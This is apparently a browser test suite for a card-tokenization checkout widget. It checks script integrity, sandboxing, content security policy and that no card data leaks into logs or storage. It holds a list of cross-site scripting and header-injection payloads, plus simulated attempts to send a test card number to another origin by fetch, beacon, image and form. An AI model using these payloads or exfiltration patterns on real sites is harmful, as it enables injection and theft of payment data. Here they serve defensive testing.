// Attack pages, by the numbers of the threat model in SECURITY.md: changed files, injected values, code that runs in the
// frame after all, isolated pages, and what is left in addresses, consoles and logs.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, before, test } from "node:test";

import { ACCOUNT, CARDS, Checkout, WITHOUT_WEBASSEMBLY, eventually, launch, openPage } from "./chromium.mjs";
import { startDemo, startSite, startVault, temporaryDirectory } from "./services.mjs";

let browser;
let data;
let vault;
let shop;
let isolated;
/** What the isolated site was asked for. */
const received = [];
/** What stands in the page, besides the script. */
let contents = "";
/** What the script's element has besides. */
let demands = "";

const page = () => `<!doctype html><html lang="en"><title>shop</title>
<script type="module" src="${vault.ready.vault}/tessera.js" ${demands} onerror="globalThis.refused = true"></script>
${contents || element()}`;

const element = (attributes = "") =>
  `<tessera-checkout vault="${vault.ready.vault}" publishable-key="${vault.ready.publishable_key}" ${attributes}></tessera-checkout>`;

before(async () => {
  // The demo builds the vault if that is needed; these services are the test's own.
  await (await startDemo()).end();
  browser = await launch({ flags: ["--short-reporting-delay"] });
  data = temporaryDirectory();
  shop = await startSite(page);
  const elsewhere = ({ url }) => {
    received.push(url);
    return page();
  };
  isolated = await startSite(elsewhere, {
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-embedder-policy": "require-corp",
  });
  vault = await startVault({ data: data.path, origins: [shop.origin, isolated.origin] });
});

after(async () => {
  await browser?.close();
  await shop?.end();
  await isolated?.end();
  await vault?.end();
  data?.remove();
});

/** A page of the shop, and every address that it and its frame ask the vault for. */
async function open({ site = shop, prepare = () => {}, path = "/" } = {}) {
  const page = await openPage(browser);
  const asked = [];
  page.on("request", (request) => {
    if (request.url().startsWith(vault.ready.vault)) {
      asked.push(request);
    }
  });
  await prepare(page);
  await page.goto(site.origin + path);
  return { page, asked, checkout: new Checkout(page) };
}

const tokenize = (page) => page.evaluate(() => document.querySelector("tessera-checkout").tokenize());
const mount = (page) => page.evaluate(() => document.querySelector("tessera-checkout").mount());
const paths = (asked) => asked.map((request) => new URL(request.url()).pathname);

test("B8: a cross-origin isolated page stays isolated and gets a token", async () => {
  const { page, checkout } = await open({ site: isolated });
  assert.equal(await page.evaluate(() => crossOriginIsolated), true);
  await checkout.typeCard();
  assert.match((await tokenize(page)).token, /^tok_/);
  assert.equal(await page.evaluate(() => crossOriginIsolated), true);
  await page.close();
});

/** Adds bytes that change nothing of what a file does: only who compares its bytes notices. */
async function lengthen(route) {
  const response = await route.fetch();
  const isWasm = new URL(route.request().url()).pathname.endsWith(".wasm");
  // An empty custom section, and an empty line.
  const more = isWasm ? [0, 2, 1, 0x78] : [10];
  await route.fulfill({ response, body: Buffer.concat([await response.body(), Buffer.from(more)]) });
}

const integrity = async () => (await (await fetch(`${vault.ready.vault}/integrity.json`)).json())["/tessera.js"];

test("B2: the hash that a merchant's page demands is that of the script", async () => {
  const script = Buffer.from(await (await fetch(`${vault.ready.vault}/tessera.js`)).arrayBuffer());
  assert.equal(await integrity(), `sha384-${createHash("sha384").update(script).digest("base64")}`);
  demands = `integrity="${await integrity()}" crossorigin`;
  const { page, checkout } = await open();
  demands = "";
  await checkout.typeCard();
  assert.match((await tokenize(page)).token, /^tok_/);
  await page.close();
});

test("B2: a changed script of the element is not run by a page that demands its hash, and nothing is asked for", async () => {
  demands = `integrity="${await integrity()}" crossorigin`;
  const { page, asked } = await open({ prepare: (page) => page.route("**/tessera.js", lengthen) });
  demands = "";
  await page.waitForFunction(() => globalThis.refused);
  assert.equal(await page.evaluate(() => customElements.get("tessera-checkout")), undefined);
  assert.deepEqual(paths(asked), ["/tessera.js"]);
  await page.close();
});

/** File, attributes of an element that loads it, and the code with which the load ends. */
const FILES = [
  ["frame.js", "", "frame_refused"],
  [WITHOUT_WEBASSEMBLY ? "tessera.js-only.js" : "tessera.js", "", "integrity_mismatch"],
  ...(WITHOUT_WEBASSEMBLY ? [] : [["tessera_bg.wasm", "", "integrity_mismatch"]]),
  ["locale/en.json", "", "integrity_mismatch"],
  ["look.js", `layout="'number number' 'expiry code'"`, "network"],
  [WITHOUT_WEBASSEMBLY ? "look.wasm.js" : "look.wasm", `layout="'number number' 'expiry code'"`, "network"],
  ["fault.js", `fault="timeout@tokenize"`, "network"],
];

for (const [file, attributes, code] of FILES) {
  test(`B2: a changed ${file} is not run, nothing is sent, and the page is told ${code}`, async () => {
    contents = element(attributes);
    const changed = [];
    const { page, asked } = await open({
      prepare: (page) =>
        page.route(`**/assets/${file}`, async (route) => {
          changed.push(file);
          await lengthen(route);
        }),
    });
    const result = await mount(page);
    assert.equal(result.error?.code, code, JSON.stringify(result));
    assert.equal((await tokenize(page)).error.code, code);
    assert.ok(changed.length > 0, "the file was asked for");
    assert.ok(!paths(asked).includes("/v1/tokens"), paths(asked).join(" "));
    // The same without the change works.
    await page.unroute(`**/assets/${file}`);
    await page.reload();
    assert.equal((await mount(page)).ready, true);
    contents = "";
    await page.close();
  });
}

test("B2: a changed style sheet is not applied, and what only advises a merchant not run", async () => {
  contents = element(`style="--tessera-color-text: #777"`);
  const { page, checkout } = await open({
    prepare: async (page) => {
      await page.route("**/assets/frame.css", lengthen);
      await page.route("**/assets/contrast.js", async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${await response.text()};globalThis.ran = true;` });
      });
    },
  });
  assert.equal((await mount(page)).ready, true);
  const inside = await checkout.inside();
  assert.equal(await inside.evaluate(() => globalThis.ran), undefined);
  assert.equal(await inside.evaluate(() => Array.from(document.styleSheets).filter((sheet) => sheet.href).length), 0);
  contents = "";
  await page.close();
});

/** What only code of a stranger could do: it calls a function of the test's. */
const CALL = "globalThis.pwned&&pwned()";
const PAYLOADS = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<img src=x onerror="${CALL}">`,
  `"><img src=x onerror=${CALL}>`,
  `' onfocus='${CALL}' autofocus='`,
  `" onload="${CALL}" x="`,
  `<svg/onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `javascript:${CALL}//`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/javascript,${CALL}`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `';${CALL};'`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${encodeURIComponent(CALL)}%3C/script%3E`,
  `red;background:url(javascript:${CALL})}</style><script>${CALL}</script>`,
  `\r\ncontent-security-policy: script-src *\r\n\r\n<script>${CALL}</script>`,
];

/** Every member of a greeting or an update. */
const MEMBERS = [
  "methods", "locale", "confirmAccount", "secCodes", "mandate", "layout", "preset", "colorScheme", "theme", "dialect",
  "session", "gateway", "endpoint", "gatewayKey", "scheme", "accepted", "cobadge", "binDigits", "amexCode", "maestroCode",
  "unionpayLuhn", "last4", "autofill", "prefill", "fault", "disabled", "type", "id", "deadline_ms",
];

/** Watches every frame for executions, and for what a policy stops. */
async function watch(page) {
  const seen = { executions: 0, violations: [] };
  await page.exposeFunction("pwned", () => (seen.executions += 1));
  await page.exposeFunction("violated", (violation) => seen.violations.push(violation));
  page.on("dialog", (dialog) => {
    seen.executions += 1;
    dialog.dismiss();
  });
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      globalThis.violated(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return seen;
}

/** What the frame's document is made of; no value may add to it. */
const skeleton = (inside) =>
  inside.evaluate(() =>
    Array.from(document.querySelectorAll("*"), (element) => {
      const names = element.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc");
      return [element.localName, ...names].join(" ");
    })
      .sort()
      .join("\n"),
  );

test("B3: no value of a greeting, an update or an address is ever run", { timeout: 300_000 }, async () => {
  const { page } = await open();
  const seen = await watch(page);
  await page.goto(shop.origin);
  const key = vault.ready.publishable_key;
  const baseline = await skeleton(await new Checkout(page).inside());
  for (const [index, payload] of PAYLOADS.entries()) {
    const address = `${vault.ready.vault}/frame/${key.split("_")[2]}`;
    const outcome = await page.evaluate(
      async ([address, key, payload, members]) => {
        const iframe = document.createElement("iframe");
        const asked = ["locale", "theme", "scheme", "layout", "methods", "gateway", "endpoint", "other"];
        const query = new URLSearchParams(asked.map((name) => [name, payload]));
        iframe.src = `${address}?${query}#${encodeURIComponent(payload)}`;
        iframe.id = "attack";
        document.getElementById("attack")?.remove();
        document.body.append(iframe);
        await new Promise((resolve) => iframe.addEventListener("load", resolve, { once: true }));
        /** Greets, and waits until the frame answers an attempt, which it does after everything before. */
        const greet = (hello) =>
          new Promise((resolve) => {
            const { port1, port2 } = new MessageChannel();
            const heard = [];
            port1.onmessage = ({ data }) => {
              heard.push(data.type);
              if (data.id === 7) {
                resolve(heard);
              } else if (/ready|failed/.test(data.type) && heard.filter((type) => /ready|failed/.test(type)).length === 1) {
                for (const member of members) {
                  for (const value of [payload, [payload], { [payload]: payload, holder: payload, merchant: payload }]) {
                    port1.postMessage({ type: "update", [member]: value });
                  }
                }
                port1.postMessage({ type: payload });
                port1.postMessage({ type: "tokenize", id: 7, deadline_ms: 5_000 });
              }
            };
            const message = { tessera: 1, nonce: encodeURIComponent(payload), key, dialect: "tessera", ...hello };
            iframe.contentWindow.postMessage(message, new URL(address).origin, [port2]);
          });
        const good = await greet({ methods: ["card", "ach"] });
        const bad = await greet(Object.fromEntries(members.map((member) => [member, payload])));
        return [good, bad];
      },
      [address, key, payload, MEMBERS],
    );
    assert.ok(outcome[0].includes("ready"), `${index}: the first greeting is a good one: ${outcome[0]}`);
    const handle = await page.locator("#attack").elementHandle();
    const inside = await handle.contentFrame();
    assert.equal(await skeleton(inside), baseline, `${payload} adds an element or a handler`);
    assert.equal(await inside.evaluate(() => globalThis.origin), vault.ready.vault);
  }
  assert.deepEqual(seen, { executions: 0, violations: [] });
  await page.close();
});

test("B3: nor is any attribute of the element, nor anything that a vault's answer repeats", { timeout: 300_000 }, async () => {
  contents = element(`methods="ach card"`);
  const { page, checkout } = await open();
  const seen = await watch(page);
  await page.goto(shop.origin);
  contents = "";
  for (const payload of PAYLOADS) {
    await page.evaluate(async (payload) => {
      const element = document.querySelector("tessera-checkout");
      const terms = { merchant: payload, amount: "25.00", frequency: "once", date: "2026-12-01" };
      const given = { name: payload, "pay-button": payload, title: payload, prefill: { holder: payload }, mandate: terms };
      for (const [name, value] of Object.entries(given)) {
        element.setAttribute(name, typeof value === "string" ? value : JSON.stringify(value));
      }
      // A session is for another dialect, so that it is told once and for all.
      element.setAttribute("session", payload);
      await element.mount();
      for (const name of ["layout", "theme", "locale", "fault", "cobadge", "accepted", "autofill", "bin"]) {
        element.setAttribute(name, payload);
        element.removeAttribute(name);
      }
      for (const token of ["font-family", "color-text", "radius"]) {
        element.style.setProperty(`--tessera-${token}`, payload);
      }
      element.refreshTheme();
      element.removeAttribute("style");
      await element.mount();
    }, payload);
    const told = await page.evaluate(() =>
      Array.from(document.querySelector("tessera-checkout").shadowRoot.querySelectorAll("img, svg, script, math"), String),
    );
    assert.deepEqual(told, []);
  }
  // The vault makes a text of the terms, with what the page says in it.
  const name = "<img src=x onerror=pwned()> & Sons";
  await page.evaluate((merchant) => {
    document.querySelector("tessera-checkout").mandate = { merchant, amount: "25.00", frequency: "once", date: "2026-12-01" };
  }, name);
  await checkout.frame.locator("#terms", { hasText: name }).waitFor({ state: "attached" });
  assert.deepEqual(seen, { executions: 0, violations: [] });
  await page.close();
});

/** What somebody would try whose code runs in the frame after all, and the directive that stops it. */
const ATTEMPTS = {
  "an inline script": [
    () => {
      const script = document.createElement("script");
      script.append("pwned()");
      document.head.append(script);
    },
    "require-trusted-types-for",
  ],
  "a script from elsewhere": [(to) => document.head.append(Object.assign(document.createElement("script"), { src: `${to}/x.js` })), "require-trusted-types-for"],
  "markup from a text": [() => (document.body.innerHTML += "<img src=x onerror=pwned()>"), "require-trusted-types-for"],
  "a text as code": [() => setTimeout("pwned()"), "require-trusted-types-for"],
  "a policy for trusted types": [() => trustedTypes.createPolicy("any", {}), "trusted-types"],
  "a request to elsewhere": [(to) => fetch(`${to}/?4111111111111111`), "connect-src"],
  "a beacon to elsewhere": [(to) => navigator.sendBeacon(`${to}/?4111111111111111`), "connect-src"],
  "a socket to elsewhere": [(to) => new WebSocket(to.replace("http", "ws")), "connect-src"],
  "an image from elsewhere": [(to) => (new Image().src = `${to}/?4111111111111111`), "img-src"],
  "a style from elsewhere": [(to) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to}/?4111111111111111` })), "style-src-elem"],
  "a frame": [(to) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${to}/?4111111111111111` })), "frame-src"],
  "a worker": [() => new Worker("/assets/frame.js"), "require-trusted-types-for"],
  "a form that is sent": [
    (to) => {
      const form = Object.assign(document.createElement("form"), { action: `${to}/`, method: "post" });
      document.body.append(form);
      form.submit();
    },
    "form-action",
  ],
  "another base": [(to) => document.head.append(Object.assign(document.createElement("base"), { href: to })), "base-uri"],
};

test("B3: what runs in the frame after all can send nothing elsewhere, and each attempt is reported to the vault", async () => {
  const { page } = await open();
  const seen = await watch(page);
  received.length = 0;
  await page.goto(shop.origin);
  const checkout = new Checkout(page);
  await checkout.ready();
  const inside = await checkout.inside();
  for (const [what, [attempt, directive]] of Object.entries(ATTEMPTS)) {
    seen.violations.length = 0;
    // In the page's own turn: what the DevTools evaluate may do more.
    await inside.evaluate(`setTimeout(() => { try { (${attempt})(${JSON.stringify(isolated.origin)}) } catch {} })`);
    const told = () => seen.violations.some((violation) => violation.startsWith(`${directive} `));
    await eventually(told, () => `${what} is stopped by ${directive}: ${seen.violations}`);
  }
  assert.equal(seen.executions, 0);
  assert.deepEqual(received, [], "nothing arrives elsewhere");
  await fetch(isolated.origin);
  assert.deepEqual(received, ["/"], "what arrives is noticed");
  for (const directive of new Set(Object.values(ATTEMPTS).map(([, directive]) => directive))) {
    const line = new RegExp(`a browser reports a violation of a policy.*directive="${directive}"`);
    await eventually(() => line.test(vault.log), () => `the vault's log has ${directive}`);
  }
  assert.ok(!vault.log.includes("4111111111111111"), "without what was to be sent");
  await page.close();
});

test("B3: an import of a script that is in no list is refused, from our own origin, too", async () => {
  const { page, checkout } = await open();
  await checkout.ready();
  const inside = await checkout.inside();
  const outcome = await inside.evaluate(async () => {
    const tried = (path) => import(path).then(() => "run", () => "refused");
    return { listed: await tried("/assets/look.js"), unlisted: await tried("/assets/refused.js"), element: await tried("/index.js") };
  });
  assert.deepEqual(outcome, { listed: "run", unlisted: "refused", element: "refused" });
  await page.close();
});

test("B7, B9: the frame may do what is listed here and nothing else", async () => {
  const { page, checkout } = await open();
  await checkout.ready();
  const iframe = await page.evaluate(() => {
    const iframe = document.querySelector("tessera-checkout").shadowRoot.querySelector("iframe");
    return Object.fromEntries(iframe.getAttributeNames().filter((name) => !["src", "style"].includes(name)).map((name) => [name, iframe.getAttribute(name)]));
  });
  assert.deepEqual(iframe, {
    part: "frame",
    title: "Payment details",
    sandbox: "allow-scripts allow-same-origin allow-forms",
    referrerpolicy: "no-referrer",
  });
  const inside = await checkout.inside();
  const allowed = await inside.evaluate(() => {
    const listed = ["camera", "clipboard-read", "clipboard-write", "display-capture", "fullscreen", "geolocation",
      "hid", "idle-detection", "local-fonts", "microphone", "midi", "payment", "publickey-credentials-get",
      "screen-wake-lock", "serial", "storage-access", "usb", "window-management", "xr-spatial-tracking"];
    const known = document.featurePolicy.features();
    return listed.filter((feature) => known.includes(feature) && document.featurePolicy.allowsFeature(feature));
  });
  assert.deepEqual(allowed, []);
  // Neither windows nor the page around can be reached.
  const opened = await inside.evaluate(() => {
    const tried = [];
    for (const act of [() => open("about:blank") ?? "none", () => ((top.location = "about:blank"), "gone"), () => top.document]) {
      try {
        tried.push(`${act()}`);
      } catch (error) {
        tried.push(error.name);
      }
    }
    return tried;
  });
  assert.deepEqual(opened, ["none", "SecurityError", "SecurityError"]);
  await page.close();
});

test("B9: what browsers and password managers are asked to fill in", async () => {
  const { page, checkout } = await open();
  await checkout.ready();
  const inside = await checkout.inside();
  const asked = () =>
    inside.evaluate(() =>
      Object.fromEntries(
        Array.from(document.querySelectorAll("[aria-describedby]"), (input) => [
          input.name,
          [input.autocomplete, input.getAttribute("spellcheck"), input.inputMode].join(" ").trim(),
        ]),
      ),
    );
  const digits = " false numeric";
  const account = {
    routing_number: `off${digits}`,
    account_number: `off${digits}`,
    account_number_confirmation: `off${digits}`,
    account_type: "off",
    account_holder_type: "off",
    sec_code: "off",
    consent: "off",
  };
  const card = { number: `cc-number${digits}`, expiry: `cc-exp${digits}`, code: `cc-csc${digits}` };
  assert.deepEqual(await asked(), { ...account, ...card, holder: "cc-name false" });
  await checkout.choose("ach");
  assert.deepEqual(await asked(), { ...account, ...card, holder: "off false" });
  await page.close();
});

test("B10: a whole checkout leaves nothing in addresses, headers, consoles, history and logs", async () => {
  const { page } = await open();
  const said = [];
  const sent = [];
  page.on("console", (message) => said.push(message.text()));
  page.on("pageerror", (error) => said.push(`${error.message} ${error.stack}`));
  const frames = [];
  page.on("framenavigated", (frame) => frames.push(frame.url()));
  page.on("request", (request) => sent.push(request));
  const from = vault.log.length;
  for (const method of ["card", "ach"]) {
    await page.goto(shop.origin);
    const checkout = new Checkout(page);
    await checkout.ready();
    await checkout.typeMethod(method);
    if (method === "card") {
      await checkout.type("holder", "Ada Canary");
    }
    assert.match((await tokenize(page)).token, /^tok_/);
  }
  const canaries = [CARDS.visa.number, CARDS.visa.shown, CARDS.visa.number.slice(0, 12), ACCOUNT.number, ACCOUNT.holder, "Canary"];
  const token = "tok_";
  const texts = { addresses: [], headers: [], bodies: [] };
  for (const request of sent) {
    const headers = await request.allHeaders();
    texts.addresses.push(request.url());
    texts.headers.push(JSON.stringify(headers));
    texts.bodies.push(request.postData() ?? "");
    const isOurs = request.url().startsWith(vault.ready.vault);
    if (isOurs && !request.url().endsWith("/tessera.js")) {
      assert.ok(!headers.referer, `a referrer goes to ${request.url()}`);
    }
  }
  const inside = await new Checkout(page).inside();
  const kept = await inside.evaluate(async () => {
    const places = {
      address: () => location.href,
      referrer: () => document.referrer,
      cookie: () => document.cookie,
      storage: () => JSON.stringify(localStorage),
      session: () => JSON.stringify(sessionStorage),
      history: () => JSON.stringify(history.state),
      title: () => document.title + name,
      timing: () => JSON.stringify(performance.getEntries()),
      databases: async () => JSON.stringify(await indexedDB.databases()),
      caches: async () => JSON.stringify(await caches.keys()),
    };
    const kept = {};
    for (const [place, read] of Object.entries(places)) {
      // A browser may forbid frames of other sites to store anything.
      kept[place] = await (async () => read())().catch((error) => error.name);
    }
    return kept;
  });
  assert.ok(texts.bodies.some((body) => body.includes("envelope")), "bodies are seen");
  const log = vault.log.slice(from);
  assert.match(log, /route="\/v1\/tokens"/);
  for (const [place, all] of Object.entries({ ...texts, said, frames, kept: Object.values(kept), log: [log] })) {
    for (const canary of [...canaries, token]) {
      const where = all.find((text) => text.includes(canary));
      assert.equal(where, undefined, `${canary} is in ${place}`);
    }
  }
  assert.deepEqual(said, [], "a browser has nothing to say: no header is unknown, no file is loaded in vain");
  assert.deepEqual([kept.referrer, kept.cookie, kept.history], ["", "", "null"]);
  for (const place of ["storage", "session", "databases", "caches"]) {
    assert.match(kept[place], /^({}|\[]|SecurityError|UnknownError)$/, place);
  }
  await page.close();
});
